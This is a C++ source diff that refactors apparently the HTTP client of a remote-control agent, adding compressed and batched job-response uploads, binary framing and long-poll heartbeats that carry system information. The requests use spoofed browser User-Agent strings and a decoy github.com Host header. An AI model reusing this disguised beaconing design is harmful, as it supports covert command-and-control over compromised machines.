@@ -24,23 +24,92 @@
 #include <sys/stat.h>
 #include <unistd.h>
 #include <fstream>
+#include <sstream>
 #include "json.h"
 #include <iostream>
 #include "systemInformation.h"
 #include "stringUtil.h"
 #include "base64.h"
+#include "binaryFrame.h"
+
+// Headers every request carries after the request-specific ones
+static void finishHeader(HttpRequest &request, TransportMode transport){
+    request.header += "Content-Length: " + std::to_string(request.body.length()) + "\r\n";
+    request.header += "X-Accept-Payload-Encoding: " + Compression::supportedCodings() + "\r\n";
+    request.header += (transport == TransportMode::Binary) ? "X-Transport: binary\r\n" : "X-Accept-Transport: binary\r\n";
+    request.header += "Connection: keep-alive\r\n";
+    request.header += "\r\n";
+}
 
-std::wstring createHeartbeatRequest(const std::wstring &sysInfoInJson){
-    std::string dataBase64 = base64_encode((unsigned char*)StringUtils::ws2s(sysInfoInJson).c_str(), sysInfoInJson.length());
-    std::wstringstream contentLengthStream;
-    contentLengthStream << dataBase64.length();
-    std::wstring request = L"POST / HTTP/1.1\r\nHost: github.com/tajiknomi/ClientHTTP_linux?HeartBeatSignal\r\nAccept-Encoding: identity\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nContent-Type: application/octet-stream\r\n";  
-    request += L"Content-Length: " + contentLengthStream.str() + L"\r\n";
-    request += L"Connection: close\r\n"; 
-    request += L"\r\n" + StringUtils::s2ws(dataBase64);
+HttpRequest createHeartbeatRequest(const std::string &sysInfo, std::chrono::seconds longPollWait, TransportMode transport){
+    HttpRequest request;
+    if (transport == TransportMode::Binary) {
+        BinaryFrame::append(request.body, BinaryFrame::Type::Heartbeat, 0, sysInfo, Compression::Coding::Identity);
+    }
+    else {
+        request.body = base64_encode((unsigned char*)sysInfo.c_str(), sysInfo.length());
+    }
+    request.header = "POST / HTTP/1.1\r\nHost: github.com/tajiknomi/ClientHTTP_linux?HeartBeatSignal\r\nAccept-Encoding: identity\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nContent-Type: application/octet-stream\r\n";
+    if (longPollWait.count() > 0) {         // Server may hold the heartbeat for up to <longPollWait> until it has a job (RFC 7240)
+        request.header += "Prefer: wait=" + std::to_string(longPollWait.count()) + "\r\n";
+        request.responseTimeout = longPollWait + std::chrono::seconds(5);
+    }
+    finishHeader(request, transport);
     return request;
 }
 
+static HttpRequest createDataRequest(const std::string &payloadInJson, size_t batchCount, Compression::Coding coding){
+    // Compress before the base64 transport encoding, tiny payloads aren't worth it
+    std::string compressed;
+    const bool useCompression = coding != Compression::Coding::Identity &&
+                                payloadInJson.size() >= Compression::MIN_COMPRESS_SIZE &&
+                                Compression::compress(coding, payloadInJson, compressed) &&
+                                compressed.size() < payloadInJson.size();
+    const std::string &payload = useCompression ? compressed : payloadInJson;
+
+    HttpRequest request;
+    request.body = base64_encode((unsigned char*)payload.c_str(), payload.length());
+    request.header = "POST / HTTP/1.1\r\nHost: github.com/tajiknomi/ClientHTTP_linux?DataSignal\r\nAccept-Encoding: " + Compression::supportedCodings() + "\r\nUser-Agent: chromium/5.0 (Windows NT 10.0; Win64; x64)\r\nContent-Type: application/octet-stream\r\n";
+    if (batchCount > 0) {
+        request.header += "X-Batch-Count: " + std::to_string(batchCount) + "\r\n";
+    }
+    if (useCompression) {
+        request.header += std::string("X-Payload-Encoding: ") + Compression::toName(coding) + "\r\n";
+    }
+    finishHeader(request, TransportMode::Base64);
+    return request;
+}
+
+HttpRequest createDataRequest(const std::vector<JobResponse> &responses, Compression::Coding coding, TransportMode transport){
+    if (transport == TransportMode::Binary) {       // One frame per response, each compressed on its own
+        HttpRequest request;
+        for (const auto &response : responses) {
+            const BinaryFrame::Type type = response.partial ? BinaryFrame::Type::Output : BinaryFrame::Type::Response;
+            BinaryFrame::append(request.body, type, response.jobId, response.json, coding);
+        }
+        request.header = "POST / HTTP/1.1\r\nHost: github.com/tajiknomi/ClientHTTP_linux?DataSignal\r\nAccept-Encoding: " + Compression::supportedCodings() + "\r\nUser-Agent: chromium/5.0 (Windows NT 10.0; Win64; x64)\r\nContent-Type: application/octet-stream\r\n";
+        finishHeader(request, transport);
+        return request;
+    }
+    if (responses.size() == 1) {            // Nothing to batch, keep the plain single-response format
+        return createDataRequest(responses.front().json, 0, coding);
+    }
+    // Batch body is a JSON array of the per-job response objects
+    size_t totalSize = 2;
+    for (const auto &response : responses) {
+        totalSize += response.json.size() + 1;
+    }
+    std::string batch;
+    batch.reserve(totalSize);
+    batch += '[';
+    for (const auto &response : responses) {
+        batch += response.json;
+        batch += ',';
+    }
+    batch.back() = ']';
+    return createDataRequest(batch, responses.size(), coding);
+}
+
 bool isValidPort(const std::string& portNum) {
 
 	for (char c : portNum) {
@@ -67,10 +136,10 @@ bool isValidPort(const std::string& portNum) {
 	return true;
 }
 
-bool hasWritePermissionForDirectory(const std::wstring &dirPath){
+bool hasWritePermissionForDirectory(const std::string &dirPath){
     
-    const std::wstring tmpFileName {L"fileXXXXxxxxx"};
-    const std::wstring tmpFilePath = dirPath + L"/" + tmpFileName;
+    const std::string tmpFileName {"fileXXXXxxxxx"};
+    const std::string tmpFilePath = dirPath + "/" + tmpFileName;
     std::ofstream tmpFile;
     tmpFile.open(fs::path(tmpFilePath));
     
@@ -83,22 +152,11 @@ bool hasWritePermissionForDirectory(const std::wstring &dirPath){
     return false;
 }
 
-std::wstring changeDir(const std::wstring& newPath, std::error_code& ec) {
-    fs::path newDirectory(newPath);
-    if (fs::exists(newDirectory, ec) && fs::is_directory(newDirectory, ec)) {
-        fs::current_path(newDirectory, ec); // Change the current directory to newPath
-        if (!ec) {
-            return fs::current_path().wstring(); // Return the new current directory path
-        }
-    }
-    return L""; // Return an empty string if there was an error
-}
-
-std::wstring ExtractLastDirectoryName(const std::wstring& path) {
-    std::wstringstream ss(path);
-    std::wstring directory;
-    std::wstring lastDirectory;
-    while (std::getline(ss, directory, L'/')) {
+std::string ExtractLastDirectoryName(const std::string& path) {
+    std::stringstream ss(path);
+    std::string directory;
+    std::string lastDirectory;
+    while (std::getline(ss, directory, '/')) {
         if (!directory.empty()) {
             lastDirectory = directory;
         }
@@ -106,12 +164,9 @@ std::wstring ExtractLastDirectoryName(const std::wstring& path) {
     return lastDirectory;
 }
 
-bool isExecutable(const std::wstring& path) {
-    // Convert the wide string to a narrow string using wcstombs
-    std::string narrowPath(path.begin(), path.end());
-
+bool isExecutable(const std::string& path) {
     struct stat fileInfo;
-    if (stat(narrowPath.c_str(), &fileInfo) != 0) {
+    if (stat(path.c_str(), &fileInfo) != 0) {
         std::cerr << "Error getting file info." << std::endl;
         return false;
     }
@@ -149,22 +204,22 @@ size_t calculateDirectorySize(const std::string& path) {
     return size;
 }
 
-std::string extractBase64Data(const std::wstring& buff) {
-    std::size_t found = buff.find(L"\r\n\r\n");
-    if (found != std::wstring::npos) {
-        found += std::wstring(L"\r\n\r\n").length();
-        return StringUtils::ws2s(buff.substr(found));
+std::string extractBase64Data(const std::string& buff) {
+    std::size_t found = buff.find("\r\n\r\n");
+    if (found != std::string::npos) {
+        found += std::string("\r\n\r\n").length();
+        return buff.substr(found);
     }
     else {
         return std::string("");
     }
 }
 
-std::wstring ReplaceTildeWithPath(const std::wstring& filePath) {
-    std::wstring result = filePath;
+std::string ReplaceTildeWithPath(const std::string& filePath) {
+    std::string result = filePath;
     size_t tildePos = result.find('~');
     if (tildePos != std::string::npos) {
-        std::wstring homeDir = L"/home/" + SysInformation::getUserName(); //+ "/";
+        std::string homeDir = "/home/" + SysInformation::getUserName(); //+ "/";
         result.replace(tildePos, 1, homeDir);
     }
     return result;